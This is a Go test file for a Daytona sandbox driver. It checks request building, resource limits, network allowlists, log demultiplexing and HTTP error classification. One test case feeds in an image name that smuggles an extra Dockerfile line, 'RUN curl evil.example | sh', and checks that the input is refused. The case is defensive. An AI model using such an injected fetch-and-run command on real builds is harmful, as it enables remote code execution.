package daytona

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/berth-sh/berth/registry"
	"github.com/berth-sh/berth/sandbox/driver"
	"github.com/berth-sh/berth/sandbox/errdefs"
)

func testProvider(t *testing.T, mod func(*Options)) *Provider {
	t.Helper()
	o := Options{APIKey: registry.Secret("k-test"), BaseURL: "http://127.0.0.1:1/api", Target: "eu"}
	if mod != nil {
		mod(&o)
	}
	p, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestCreateRequest checks how a Spec becomes POST /sandbox: resources
// rounded up, maxima refused with the maximum named, TTL in minutes,
// auto-delete, target, network, image or snapshot, work dir.
func TestCreateRequest(t *testing.T) {
	base := driver.Spec{Image: "python:3.12", TTL: 90 * time.Second, Labels: map[string]string{"job": "j1"}}
	cases := []struct {
		name    string
		mod     func(*driver.Spec)
		opts    func(*Options)
		check   func(t *testing.T, r createRequest, disk int)
		wantErr string
		class   errdefs.Class
	}{
		{name: "defaults", check: func(t *testing.T, r createRequest, disk int) {
			if r.BuildInfo == nil || r.BuildInfo.DockerfileContent != "FROM python:3.12" || r.Snapshot != "" {
				t.Errorf("image: %+v %q", r.BuildInfo, r.Snapshot)
			}
			if r.TTLMinutes != 2 || r.AutoStopInterval != 0 || r.AutoDeleteInterval != 1440 || r.Target != "eu" || !r.NetworkBlockAll {
				t.Errorf("ttl %d autostop %d autodelete %d target %q block %v", r.TTLMinutes, r.AutoStopInterval, r.AutoDeleteInterval, r.Target, r.NetworkBlockAll)
			}
			if r.CPU != 0 || r.Memory != 0 || r.Disk != 0 || disk != 3 {
				t.Errorf("resources %d/%d/%d (disk held %d), want the API's defaults (3 GB held)", r.CPU, r.Memory, r.Disk, disk)
			}
			if r.Labels["job"] != "j1" || !strings.HasPrefix(r.Name, "berth-") {
				t.Errorf("labels %v name %q", r.Labels, r.Name)
			}
		}},
		{name: "rounded up", mod: func(s *driver.Spec) { s.Resources = driver.Resources{CPUs: 1.5, MemoryMB: 1500, StorageMB: 5000} },
			check: func(t *testing.T, r createRequest, disk int) {
				if r.CPU != 2 || r.Memory != 2 || r.Disk != 5 || disk != 5 {
					t.Errorf("resources %d/%d/%d disk %d, want 2/2/5", r.CPU, r.Memory, r.Disk, disk)
				}
			}},
		{name: "cpu above the maximum", mod: func(s *driver.Spec) { s.Resources.CPUs = 4.5 },
			wantErr: "the per-sandbox maximum is 4 cores", class: errdefs.InvalidArgument},
		{name: "memory above the maximum", mod: func(s *driver.Spec) { s.Resources.MemoryMB = 9000 },
			wantErr: "the per-sandbox maximum is 8 GB", class: errdefs.InvalidArgument},
		{name: "disk above the maximum", mod: func(s *driver.Spec) { s.Resources.StorageMB = 90 * 1024 },
			wantErr: "90 GB rounded up); the per-sandbox maximum is 10 GB", class: errdefs.InvalidArgument},
		{name: "raised maximum", mod: func(s *driver.Spec) { s.Resources.StorageMB = 20 * 1024 }, opts: func(o *Options) { o.Limits.DiskGB = 50 },
			check: func(t *testing.T, r createRequest, disk int) {
				if r.Disk != 20 {
					t.Errorf("disk %d", r.Disk)
				}
			}},
		{name: "snapshot", mod: func(s *driver.Spec) { s.Image = "snapshot:daytonaio/sandbox:0.4.3" },
			check: func(t *testing.T, r createRequest, _ int) {
				if r.Snapshot != "daytonaio/sandbox:0.4.3" || r.BuildInfo != nil {
					t.Errorf("snapshot %q build %+v", r.Snapshot, r.BuildInfo)
				}
			}},
		{name: "image that adds a Dockerfile line", mod: func(s *driver.Spec) { s.Image = "alpine\nRUN curl evil.example | sh" },
			wantErr: "spaces or control characters", class: errdefs.InvalidArgument},
		{name: "build context", mod: func(s *driver.Spec) { s.Image, s.Build = "", &driver.Build{ContextDir: "/tmp"} },
			wantErr: "building from a context directory is not supported", class: errdefs.NotSupported},
		{name: "delete on stop", opts: func(o *Options) { o.DeleteOnStop = true },
			check: func(t *testing.T, r createRequest, _ int) {
				if r.AutoDeleteInterval != 0 {
					t.Errorf("autodelete %d, want 0", r.AutoDeleteInterval)
				}
			}},
		{name: "keep stopped", opts: func(o *Options) { o.AutoDelete = -1 },
			check: func(t *testing.T, r createRequest, _ int) {
				if r.AutoDeleteInterval != -1 {
					t.Errorf("autodelete %d, want -1", r.AutoDeleteInterval)
				}
			}},
		{name: "public", mod: func(s *driver.Spec) { s.Network.Mode = driver.NetworkPublic },
			check: func(t *testing.T, r createRequest, _ int) {
				if r.NetworkBlockAll {
					t.Error("public network blocked")
				}
			}},
		{name: "allowlist", mod: func(s *driver.Spec) {
			s.Network = driver.Network{Mode: driver.NetworkAllowlist, Allow: []string{"10.0.0.0/8", "1.2.3.4", "pypi.org"}}
		}, check: func(t *testing.T, r createRequest, _ int) {
			if r.NetworkBlockAll || r.NetworkAllowList != "10.0.0.0/8,1.2.3.4/32" || r.DomainAllowList != "pypi.org" {
				t.Errorf("allowlist %q domains %q", r.NetworkAllowList, r.DomainAllowList)
			}
		}},
		{name: "work dir and env", mod: func(s *driver.Spec) { s.WorkDir, s.Env = "/app", map[string]string{"A": "1"} },
			check: func(t *testing.T, r createRequest, _ int) {
				if r.Env[WorkDirVar] != "/app" || r.Env["A"] != "1" {
					t.Errorf("env %v", r.Env)
				}
			}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			spec := base
			spec.Labels = map[string]string{"job": "j1"}
			if c.mod != nil {
				c.mod(&spec)
			}
			r, disk, err := testProvider(t, c.opts).createRequest(spec.WithDefaults())
			if c.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), c.wantErr) || errdefs.ClassOf(err) != c.class {
					t.Fatalf("err = %v, want %v containing %q", err, c.class, c.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			c.check(t, r, disk)
		})
	}
}

// TestDemuxAnyCut feeds a session log cut at every byte, markers included,
// and gets the same bytes out each time.
func TestDemuxAnyCut(t *testing.T) {
	out := []byte("first line\n\x00\x01\x02 binary\xff")
	errb := []byte("to stderr")
	var log []byte
	add := func(mark byte, data []byte) {
		for len(data) > 0 {
			n := min(len(data), 7) // several lines per stream
			enc := []byte(encodeLine(data[:n]))
			log = append(log, mark, mark, mark)
			log = append(log, enc...)
			log = append(log, '\n')
			data = data[n:]
		}
	}
	add(1, out[:12])
	add(2, errb)
	add(1, out[12:])
	log = append(log, 2, 2, 2)
	log = append(log, "!berth: a wrapper message\n"...)
	for cut := 0; cut <= len(log); cut++ {
		var o, e strings.Builder
		d := newDemux(&o, &e)
		d.feed(log[:cut])
		d.feed(log[cut:])
		d.flush()
		if o.String() != string(out) || e.String() != string(errb)+"berth: a wrapper message\n" {
			t.Fatalf("cut at %d: stdout %q stderr %q", cut, o.String(), e.String())
		}
		if d.n != int64(len(log)) {
			t.Fatalf("cut at %d: offset %d, want %d", cut, d.n, len(log))
		}
	}
}

func encodeLine(b []byte) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var s strings.Builder
	for i := 0; i < len(b); i += 3 {
		var v uint32
		n := min(3, len(b)-i)
		for j := range 3 {
			v <<= 8
			if j < n {
				v |= uint32(b[i+j])
			}
		}
		for j := range 4 {
			if j <= n {
				s.WriteByte(alphabet[(v>>(18-6*j))&63])
			} else {
				s.WriteByte('=')
			}
		}
	}
	return s.String()
}

// TestClassify: answers are classed by status alone (the one HTTP mapping
// of sandbox/errdefs), the advised wait is the longest of Retry-After and
// Retry-After-<throttler>, and the text never decides: Daytona's quota
// refusals are 400s, InvalidArgument and not retried, whatever they say.
// On 6f9918d a quota text was matched by a regular expression, and the
// create gate retried any error whose text held "limit exceeded".
func TestClassify(t *testing.T) {
	cases := []struct {
		status    int
		msg       string
		header    http.Header
		class     errdefs.Class
		retryable bool
		wait      time.Duration
		throttler string
	}{
		{401, "Unauthorized", nil, errdefs.Unauthenticated, false, 0, ""},
		{403, "Forbidden", nil, errdefs.Unauthenticated, false, 0, ""},
		{404, "Sandbox with ID or name x not found", nil, errdefs.NotFound, false, 0, ""},
		{409, "Sandbox with name x already exists", nil, errdefs.AlreadyExists, false, 0, ""},
		{400, "Disk request 90GB exceeds maximum allowed per sandbox (10GB).", nil, errdefs.InvalidArgument, false, 0, ""},
		{400, "Total disk limit exceeded. Maximum allowed: 30GiB.", nil, errdefs.InvalidArgument, false, 0, ""},
		{403, "Total CPU limit exceeded. Maximum allowed: 10.", nil, errdefs.Unauthenticated, false, 0, ""},
		{429, "Rate limit exceeded", http.Header{"Retry-After-Sandbox-Create": {"3"}}, errdefs.ResourceExhausted, true, 3 * time.Second, "sandbox-create"},
		{429, "Rate limit exceeded", http.Header{"Retry-After": {"1"}, "Retry-After-Authenticated": {"5"}}, errdefs.ResourceExhausted, true, 5 * time.Second, "authenticated"},
		{429, "x", http.Header{"Retry-After": {"99999"}}, errdefs.ResourceExhausted, true, maxAdvisedWait, ""},
		{429, "x", http.Header{"Retry-Afterwards": {"3"}, "X-Ratelimit-Reset-Sandbox-Create": {"9"}}, errdefs.ResourceExhausted, true, 0, ""},
		{500, "Internal server error", nil, errdefs.Unknown, false, 0, ""},
		{503, "", nil, errdefs.Unavailable, true, 0, ""},
		{504, "gateway timeout", nil, errdefs.DeadlineExceeded, false, 0, ""},
	}
	for _, c := range cases {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			for k, vs := range c.header {
				w.Header()[k] = vs
			}
			w.WriteHeader(c.status)
			fmt.Fprintf(w, `{"statusCode":%d,"message":%q}`, c.status, c.msg)
		}))
		p, err := New(Options{APIKey: registry.Secret("k-classify"), BaseURL: srv.URL, RateLimitRetries: -1})
		if err != nil {
			t.Fatal(err)
		}
		_, err = p.get(context.Background(), "x")
		srv.Close()
		if errdefs.ClassOf(err) != c.class || errdefs.Retryable(err) != c.retryable || errdefs.RetryAfterOf(err) != c.wait {
			t.Errorf("%d %q: class %v retryable %v wait %v; want %v %v %v", c.status, c.msg, errdefs.ClassOf(err), errdefs.Retryable(err), errdefs.RetryAfterOf(err), c.class, c.retryable, c.wait)
		}
		var ae *APIError
		if !errors.As(err, &ae) || !strings.Contains(err.Error(), c.msg) || ae.Throttler != c.throttler {
			t.Errorf("%d: the cause is lost or the throttler wrong: %v", c.status, err)
		}
	}
}

func TestOptionsRefused(t *testing.T) {
	for _, o := range []Options{
		{},
		{APIKey: registry.Secret("  ")},
		{APIKey: registry.Secret("k"), BaseURL: "ftp://x"},
		{APIKey: registry.Secret("k"), HTTPClient: &http.Client{Timeout: time.Second}},
	} {
		if _, err := New(o); err == nil {
			t.Errorf("New(%+v) accepted", o)
		}
	}
	if _, err := New(Options{}); errdefs.ClassOf(err) != errdefs.Unauthenticated {
		t.Errorf("New without a key: %v, want Unauthenticated", err)
	}
}
